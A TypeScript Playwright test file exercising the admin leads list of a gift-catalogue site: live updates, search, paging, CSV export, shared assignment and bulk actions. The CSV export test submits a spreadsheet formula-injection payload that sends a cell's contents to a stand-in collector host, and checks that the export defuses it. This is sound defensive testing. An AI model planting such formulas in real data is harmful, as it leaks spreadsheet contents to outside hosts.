import { readFile } from 'node:fs/promises'

import type { APIRequestContext, Page } from '@playwright/test'

import { expect, type Giftwell, test } from './support/giftwell.ts'
import { anotherAdministrator } from './support/product-steps.ts'
import { addToInquiry, fillInquiry } from './support/steps.ts'

test.use({ signedIn: true })

interface SentLead {
  readonly name: string
  readonly company: string
  readonly email: string
  readonly phone?: string
  readonly message?: string
  readonly selected_products?: readonly string[]
}

/** Sends a lead as the public site does: without a session. */
async function send(request: APIRequestContext, lead: SentLead) {
  const config = await request.get('/config.json')
  // The JSON of config.json.
  const { supabaseKey } = (await config.json()) as { supabaseKey: string }
  const response = await request.post('/rest/v1/leads', {
    headers: { apikey: supabaseKey },
    data: { phone: '+91 98765 43210', ...lead },
  })
  expect(response.status()).toBe(201)
}

/** Sends two inquiries of one buyer for a product of the catalogue, and gives its name. */
async function inquireTwice(request: APIRequestContext, email: string, word: string): Promise<[string]> {
  const { supabaseKey } = Object(await (await request.get('/config.json')).json())
  const headers = { apikey: String(supabaseKey) }
  const page = await request.post('/rest/v1/rpc/catalogue_page', { headers, data: {} })
  const { id, name } = Object(await page.json()).products[0]
  for (const quantity of [100, 300]) {
    const data = {
      name: `Twice ${word}`,
      company: word,
      email,
      phone: '+91 98765 43211',
      items: [{ id, name, quantity }],
    }
    const sent = await request.post('/rest/v1/rpc/send_inquiry', { headers, data })
    expect(sent.ok(), await sent.text()).toBe(true)
  }
  return [String(name)]
}

/** A word that is in no other lead: all tests share one site. */
function newWord(giftwell: Giftwell): string {
  return giftwell.newAddress('w').replace('@example.com', '')
}

async function openLeads(page: Page, address = '/admin/leads') {
  await page.goto(address)
  await expect(page.getByRole('heading', { name: 'Leads', exact: true })).toBeVisible()
}

const rows = (page: Page) => page.getByRole('table', { name: 'Leads' }).getByRole('row')

test('a lead that is sent while the list is open appears in it without a reload', async ({
  page,
  browser,
  giftwell,
  request,
}) => {
  await send(request, {
    name: 'Earlier Buyer',
    company: 'Test Company',
    email: giftwell.newAddress('earlier'),
  })
  await page.clock.install()
  await openLeads(page)
  await expect(rows(page).filter({ hasText: 'Earlier Buyer' }).first()).toBeVisible()
  await page.evaluate(() => Object.assign(window, { isSamePage: true }))

  const anonymous = { cookies: [], origins: [] }
  const context = await browser.newContext({ baseURL: giftwell.baseUrl, storageState: anonymous })
  const visitor = await context.newPage()
  await visitor.goto('/catalogue')
  const products = await addToInquiry(visitor, 1)
  const email = giftwell.newAddress('visitor')
  const dialog = await fillInquiry(visitor, { name: 'Later Buyer', company: 'Test Company', email })
  await dialog.getByRole('button', { name: 'Submit Inquiry' }).click()
  await expect(dialog).toBeHidden()
  await context.close()

  await page.clock.runFor(15_000)
  const lead = rows(page).filter({ hasText: email })
  await expect(lead).toContainText(products.join(''))
  await expect(lead.getByText('New', { exact: true })).toBeVisible()
  await expect(page.getByText('1 new lead')).toBeAttached()
  expect(await page.evaluate(() => 'isSamePage' in window)).toBe(true)

  await lead.getByRole('button', { name: 'Later Buyer' }).click()
  await expect(page.getByRole('heading', { name: 'Later Buyer', level: 1 })).toBeFocused()
  await page.goBack()
  await expect(lead.getByText('New', { exact: true })).toBeHidden()
})

test(
  'leads are searched by a part of any word and by dates, and the address has the search',
  { tag: '@full' },
  async ({ page, giftwell, request }) => {
    const word = newWord(giftwell)
    const lead = { name: 'Seeker', company: 'Test Company', email: giftwell.newAddress('seeker') }
    await send(request, { ...lead, message: `Please send 100% “${word.toUpperCase()}” (a_b), today` })
    await send(request, { ...lead, name: 'Another', selected_products: ['Steel Tumbler', `Mug ${word}`] })
    await openLeads(page)

    await page.keyboard.press('/')
    await page.keyboard.type(word)
    await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
    await expect(rows(page)).toHaveCount(3)
    await page.reload()
    await expect(page.getByRole('searchbox', { name: 'Search leads' })).toHaveValue(word)
    await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
    await page.getByRole('searchbox', { name: 'Search leads' }).fill(`100% “${word}” (a_b), `)
    await expect(page.getByRole('heading', { name: 'All Leads (1)' })).toBeVisible()
    await expect(rows(page).nth(1)).toContainText('Seeker')
    await page.goBack()
    await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()

    // The browser's day, which may differ from the server's.
    const today = await page.evaluate(() => new Date().toLocaleDateString('sv-SE'))
    await page.getByLabel('From').fill(today)
    await page.getByLabel('To', { exact: true }).fill(today)
    await expect(page).toHaveURL(new RegExp(`search=${word}&from=${today}&to=${today}`))
    await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
    await page.getByLabel('To', { exact: true }).fill('2020-01-01')
    await expect(page.getByText('From is after To')).toBeVisible()
    await page.getByLabel('From').fill('')
    await expect(page.getByText('From is after To')).toBeHidden()
    await expect(page.getByText('No leads match your search and dates.')).toBeVisible()
    await expect(page.getByRole('heading', { name: 'All Leads (0)' })).toBeVisible()
    await page.getByRole('button', { name: 'Clear search and dates' }).click()
    await expect(page).toHaveURL(/\/admin\/leads$/)
    await expect(rows(page).filter({ hasText: word }).first()).toBeVisible()
  },
)

test(
  'leads are paged through in the list, and one by one',
  { tag: '@full' },
  async ({ page, giftwell, request }) => {
    const word = newWord(giftwell)
    for (let number = 1; number <= 27; number += 1) {
      await send(request, {
        name: `Buyer ${number}`,
        company: word,
        email: giftwell.newAddress('buyer'),
        message: 'Two lines:\nthis is the second.',
        selected_products: ['Mug', 'Pen', 'Bag', 'Lamp', `Clock ${number}`],
      })
    }
    await openLeads(page, `/admin/leads?search=${word}`)
    await expect(page.getByText('1–25 of 27')).toBeVisible()
    await expect(rows(page)).toHaveCount(26)
    await expect(rows(page).nth(1)).toContainText('Buyer 27')
    await page.getByRole('button', { name: 'Next page' }).click()
    await expect(page.getByText('26–27 of 27')).toBeVisible()
    await expect(rows(page)).toHaveCount(3)
    await expect(rows(page).nth(1)).toContainText('Buyer 2')
    await expect(page.getByRole('button', { name: 'Next page' })).toBeDisabled()
    await page.getByRole('columnheader', { name: 'Date' }).getByRole('button').click()
    await expect(rows(page).nth(1)).toContainText('Buyer 1')
    await expect(page).toHaveURL(new RegExp(`search=${word}&sort=oldest`))
    await page.goBack()
    await expect(page.getByText('26–27 of 27')).toBeVisible()
    await expect(rows(page).nth(1)).toContainText('Buyer 2')
    await page.getByRole('button', { name: 'Previous page' }).click()
    await expect(page.getByText('1–25 of 27')).toBeVisible()
    await page.getByRole('button', { name: 'Last page' }).click()
    await expect(page.getByText('26–27 of 27')).toBeVisible()

    await rows(page).nth(1).getByRole('button', { name: '+2 more products of Buyer 2' }).click()
    const dialog = page.getByRole('region', { name: 'Buyer 2', exact: true })
    await expect(dialog.getByRole('listitem')).toHaveText(['Mug', 'Pen', 'Bag', 'Lamp', 'Clock 2'])
    await expect(dialog.getByText('Two lines:')).toHaveCSS('white-space', 'pre-wrap')
    // The site delivers no e-mails.
    await expect(dialog.getByRole('link', { name: 'Reply by e-mail' })).toHaveAttribute(
      'href',
      /^mailto:buyer-\w+@example\.com\?subject=Re%3A%20Your%20inquiry%20GW-[\dA-F]{8}&body=Hello%20Buyer%202/,
    )
    await page.keyboard.press('ArrowRight')
    await expect(page.getByRole('region', { name: 'Buyer 1', exact: true })).toContainText('27 of 27')
    await page.keyboard.press('ArrowRight')
    await page.keyboard.press('ArrowLeft')
    await expect(dialog).toContainText('26 of 27')
    await page.keyboard.press('ArrowLeft')
    await expect(page.getByRole('region', { name: 'Buyer 3', exact: true })).toContainText('25 of 27')
    await page.keyboard.press('ArrowRight')
    await expect(dialog).toContainText('26 of 27')
    await page.keyboard.press('Escape')
    await expect(dialog).toBeHidden()

    // Anywhere on the row, with the mouse.
    await rows(page).nth(2).getByText('Two lines:').click()
    await expect(page.getByRole('region', { name: 'Buyer 1', exact: true })).toBeVisible()
  },
)

/** The cells of a CSV file, read as RFC 4180 says. */
function parse(csv: string): string[][] {
  const lines: string[][] = [[]]
  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end !== ',') lines.push([])
  }
  return lines.slice(0, -1)
}

test(
  'the list is exported for spreadsheets, completely and without formulas',
  { tag: '@full' },
  async ({ page, giftwell, request }) => {
    const word = newWord(giftwell)
    const email = giftwell.newAddress('exported')
    await send(request, {
      name: '=HYPERLINK("https://collector.example/?"&B1,"Prices")',
      company: `Ünïque, "${word}" & Søns 🎁`,
      email,
      message: 'one\ntwo; three',
      selected_products: ['Mug, tall', 'Pen'],
    })
    await send(request, { name: 'Plain', company: word, email })
    await openLeads(page, `/admin/leads?search=${word}`)
    await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
    const downloading = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Export to CSV' }).click()
    const download = await downloading
    await expect(page.getByRole('status').filter({ hasText: '2 leads exported' })).toBeVisible()
    expect(download.suggestedFilename()).toMatch(/^giftwell-leads-\d{4}-\d{2}-\d{2}\.csv$/)

    const bytes = await readFile(await download.path())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const date: unknown = expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
    const reference: unknown = expect.stringMatching(/^GW-[\dA-F]{8}$/)
    const none = ['', '', '', '', '']
    const unhandled = ['New', '', '', '', '', '']
    expect(parse(bytes.subarray(3).toString('utf8'))).toEqual([
      'Name,Company,Email,Phone,Products,Message,Date,Quantities and notes,Needed by,Budget per gift,City,Branding,Reference,State,Assigned to,Notes,Quantity,Come back on,Colour'.split(
        ',',
      ),
      ['Plain', word, email, '+91 98765 43210', '', '', date, ...none, reference, ...unhandled],
      [
        `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
        `Ünïque, "${word}" & Søns 🎁`,
        email,
        '+91 98765 43210',
        'Mug, tall; Pen',
        'one\ntwo; three',
        date,
        ...none,
        reference,
        ...unhandled,
      ],
    ])
  },
)

test(
  'two administrators see a new inquiry, which one takes and answers by a template',
  { tag: '@full' },
  async ({ page, browser, giftwell, request }) => {
    const word = newWord(giftwell)
    /** The count that both tab and sidebar show, or nothing while they differ. */
    const newAt = async (desk: Page) => {
      const inTab = Number(/^\((\d+)\)/.exec(await desk.title())?.[1] ?? 0)
      // The description of the link.
      const inSidebar = await desk
        .locator('nav [aria-describedby]')
        .filter({ hasText: /^Leads$/ })
        .count()
      return inSidebar === Number(inTab > 0) ? inTab : undefined
    }
    const pulse = page.waitForResponse(/rpc\/lead_pulse/)
    await openLeads(page, `/admin/leads?search=${word}`)
    const mine = page.getByRole('region', { name: word })
    const other = await anotherAdministrator(browser, giftwell, `/admin/leads?search=${word}`)
    const theirs = other.getByRole('region', { name: word })
    await expect(other.getByText('No leads match your search and dates.')).toBeVisible()
    const [{ new_leads: before, unanswered }] = (await (await pulse).json()) as [
      { new_leads: number; unanswered: number },
    ] // its only row
    const bothCount = async (count: number) => {
      for (const desk of [page, other]) await expect.poll(() => newAt(desk)).toBe(count)
    }

    await send(request, { name: word, company: 'Test Company', email: giftwell.newAddress('shared') })
    await bothCount(before + 1)
    for (const desk of [page, other]) await rows(desk).getByRole('button', { name: word }).click()
    await bothCount(before)

    await mine.getByRole('combobox', { name: 'Assigned to' }).selectOption({ index: 1 })
    await expect(theirs.getByRole('combobox', { name: 'Assigned to' })).not.toHaveValue('')
    await expect(theirs.getByRole('article').filter({ hasText: 'assigned it to' })).toBeVisible()

    await mine.getByRole('combobox', { name: 'Template of the reply' }).selectOption('Samples first (demo)')
    const reply = mine.getByRole('link', { name: 'Reply by e-mail' })
    await expect(reply).toHaveAttribute('href', /Before%20Test%20Company%20decides/)
    // No mail program is installed.
    await reply.evaluate((link) => link.addEventListener('click', (event) => event.preventDefault()))
    await reply.click()
    await expect(page.getByRole('status').filter({ hasText: 'Marked as answered' })).toBeVisible()
    await expect(theirs.getByRole('article').filter({ hasText: 'answered by e-mail' })).toBeVisible()
    await expect(theirs.getByRole('combobox', { name: 'State' })).toHaveValue('in_progress')
    await bothCount(before)

    await theirs.getByRole('combobox', { name: 'State' }).selectOption('Won')
    await expect(mine.getByRole('combobox', { name: 'State' })).toHaveValue('won')
    await theirs.getByRole('textbox', { name: 'Note' }).fill('Samples on Friday')
    await theirs.getByRole('button', { name: 'Add note' }).click()
    await expect(mine.getByText('Samples on Friday')).toBeVisible()
    await other.goto('/admin')
    await bothCount(before)
    const lastCells = (table: string) =>
      other.getByRole('table', { name: table }).getByRole('row').locator('td:last-child').allInnerTexts()
    await expect
      .poll(async () =>
        (await lastCells('Unanswered leads by age')).reduce((sum, cell) => sum + Number(cell), 0),
      )
      .toBe(unanswered)
    const won = other
      .getByRole('table', { name: 'Leads won and lost by month' })
      .getByRole('row')
      .last()
      .getByRole('cell')
    await expect(won.first()).toHaveText(/[1-9]/)
    await expect(other.getByText('of the last 30 days came within')).toBeVisible()
    await other.context().close()
  },
)

test(
  'on a phone, a lead is read without scrolling sideways',
  { tag: '@full' },
  async ({ page, giftwell, request }) => {
    const word = newWord(giftwell)
    const long = 'Averyverylongwordwithoutanyplacetobreakitinto'
    await send(request, {
      name: `${long} Buyer`,
      company: `${long} ${word}`,
      email: giftwell.newAddress(long.toLowerCase()),
      message: `${long} ${long}`,
      selected_products: [`${long} ${long}`, 'Pen'],
    })
    await page.setViewportSize({ width: 360, height: 740 })
    await openLeads(page, `/admin/leads?search=${word}`)
    await expect(rows(page).nth(1)).toBeVisible()
    const width = () => page.evaluate(() => document.documentElement.scrollWidth)
    expect(await width()).toBe(360)
    await rows(page)
      .nth(1)
      .getByRole('button', { name: `${long} Buyer` })
      .click()
    await expect(page.getByRole('link', { name: 'Reply by e-mail' })).toBeInViewport()
    expect(await width()).toBe(360)
  },
)

test(
  'the staff’s morning: what waits, many leads at once, an answer, a day to come back, a product in one press, and a merge',
  { tag: '@full' },
  async ({ page, giftwell, request }) => {
    const word = newWord(giftwell)
    await send(request, { name: `Buyer ${word}`, company: word, email: giftwell.newAddress('buyer') })
    await page.goto('/admin')
    const waits = page.getByRole('list', { name: 'Waiting' })
    await expect(waits.getByRole('link', { name: /^Unanswered [1-9]/ })).toBeVisible()
    await expect(waits.getByRole('link', { name: /^Without owner [1-9]/ })).toBeVisible()
    await page.getByRole('link', { name: `Buyer ${word}` }).click()
    const dialog = page.getByRole('region', { name: `Buyer ${word}` })
    await expect(dialog).toBeVisible()
    const address = page.url()
    await page.goBack()
    await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()

    await openLeads(page, `/admin/leads?search=${word}`)
    await page.getByRole('button', { name: `Buyer ${word}` }).click()
    await expect(page).toHaveURL(`${address}?search=${word}`)
    await page.goBack()
    await expect(dialog).toBeHidden()
    await expect(page).toHaveURL(`/admin/leads?search=${word}`)
    await expect(page.getByRole('button', { name: `Buyer ${word}` })).toBeFocused()

    const response = await page.goto(address)
    expect(response?.status()).toBe(200)
    await dialog.getByRole('button', { name: 'All leads' }).click()
    await expect(dialog).toBeHidden()
    await expect(page).toHaveURL('/admin/leads')

    // The rest of a morning: what takes one press for all leads, and three for one.
    for (const name of ['Robot', 'Second', 'Third'])
      await send(request, {
        name: `${name} ${word}`,
        company: word,
        email: giftwell.newAddress(name.toLowerCase()),
      })
    await openLeads(page, `/admin/leads?search=${word}`)
    await page.getByRole('checkbox', { name: 'Select all on this page' }).check()
    await page.getByRole('button', { name: 'Assign', exact: true }).click()
    await page.getByRole('menuitem').first().click()
    await expect(page.getByRole('status').filter({ hasText: '4 leads changed' })).toBeVisible()
    await page.getByRole('checkbox', { name: `Select Robot ${word}` }).check()
    await page.getByRole('button', { name: 'Spam', exact: true }).click()
    await expect(page.getByRole('status').filter({ hasText: '1 lead changed' })).toBeVisible()
    for (const name of ['Second', 'Third'])
      await page.getByRole('checkbox', { name: `Select ${name} ${word}` }).check()
    await page.getByRole('button', { name: 'Change state' }).click()
    await page.getByRole('menuitem', { name: 'In progress' }).click()
    await expect(page.getByRole('status').filter({ hasText: '2 leads changed' })).toBeVisible()
    await page.getByRole('combobox', { name: 'State' }).selectOption('In progress')
    await expect(page.getByRole('heading', { name: 'All Leads (2)' })).toBeVisible()
    await page.getByRole('columnheader', { name: 'Company' }).getByRole('button').click()
    await expect(page.getByRole('columnheader', { name: 'Company' })).toHaveAttribute(
      'aria-sort',
      'ascending',
    )

    await page.getByRole('button', { name: `Second ${word}` }).click()
    const second = page.getByRole('region', { name: `Second ${word}` })
    const tomorrow = await page.evaluate(() => {
      const day = new Date()
      day.setDate(day.getDate() + 1)
      return day.toLocaleDateString('sv-SE')
    })
    await second.getByLabel('Come back on').fill(tomorrow)
    await expect(second.getByRole('article').filter({ hasText: 'set the day to come back to' })).toBeVisible()
    const reply = second.getByRole('link', { name: 'Reply by e-mail' })
    // No mail program is installed.
    await reply.evaluate((link) => link.addEventListener('click', (event) => event.preventDefault()))
    await reply.click()
    await expect(page.getByRole('status').filter({ hasText: 'Marked as answered' })).toBeVisible()
    await page.goBack()
    await page.getByRole('combobox', { name: 'To come back to' }).selectOption('Tomorrow')
    await expect(page.getByRole('heading', { name: 'All Leads (1)' })).toBeVisible()
    await expect(rows(page).nth(1)).toContainText(`Second ${word}`)
    await expect(rows(page).nth(1).getByText('Answered', { exact: true })).toBeVisible()

    // The same buyer writes again: from a line to its product in one press, and one lead for both inquiries.
    const [product] = await inquireTwice(request, giftwell.newAddress('twice'), word)
    await openLeads(page, `/admin/leads?search=Twice ${word}`)
    await page
      .getByRole('button', { name: `Twice ${word}` })
      .first()
      .click()
    const twice = page.getByRole('region', { name: `Twice ${word}` })
    await twice.getByRole('link', { name: product }).click()
    const edited = page.getByRole('dialog', { name: 'Edit Product' })
    await expect(edited.getByLabel('Name').first()).toHaveValue(product)
    await page.goBack()
    await expect(edited).toBeHidden()
    await page.goBack()
    await twice.getByRole('button', { name: /^Merge GW-/ }).click()
    await expect(twice.getByRole('region', { name: /^Merged inquiry GW-/ })).toBeVisible()
    await expect(page.getByRole('status').getByRole('button', { name: 'Undo' })).toBeVisible()
    await twice.getByRole('button', { name: /^Undo the merge of GW-/ }).click()
    await expect(twice.getByRole('button', { name: /^Merge GW-/ })).toBeVisible()
  },
)
